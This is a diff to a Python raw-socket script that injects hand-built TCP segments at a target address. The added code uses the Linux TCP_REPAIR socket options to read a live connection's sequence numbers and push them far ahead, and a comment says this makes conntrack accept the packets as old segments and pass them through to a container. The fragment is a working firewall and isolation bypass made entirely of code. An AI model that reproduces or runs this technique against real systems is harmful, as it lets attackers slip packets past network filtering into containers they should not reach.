@@ -323,9 +323,16 @@ ask()
 here, mine = live.getsockname()
 pseudo = socket.inet_aton(here) + socket.inet_aton(sys.argv[1]) + struct.pack("!BBH", 0, 6, 20)
 raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+def far(queue):
+    # far beyond what was sent: an older number conntrack takes for an old segment, and lets it through to the container
+    live.setsockopt(socket.IPPROTO_TCP, 19, 1)  # TCP_REPAIR; -1 below: off, without a probe
+    live.setsockopt(socket.IPPROTO_TCP, 20, queue)  # TCP_REPAIR_QUEUE; 1: what we receive, 2: what we send
+    number = live.getsockopt(socket.IPPROTO_TCP, 21)  # TCP_QUEUE_SEQ
+    live.setsockopt(socket.IPPROTO_TCP, 19, -1)
+    return (number + 0x40000000) & 0xffffffff
 for line in sys.stdin:
     port, flags = map(int, line.split())
-    segment = [mine, port, 0x12345678, 0x9abcdef0 if flags & 16 else 0, 5 << 4, flags, 64240, 0, 0]
+    segment = [mine, port, far(2), far(1) if flags & 16 else 0, 5 << 4, flags, 64240, 0, 0]
     segment[7] = checksum(pseudo + struct.pack("!HHIIBBHHH", *segment))
     raw.sendto(struct.pack("!HHIIBBHHH", *segment), (sys.argv[1], 0))
 ask()
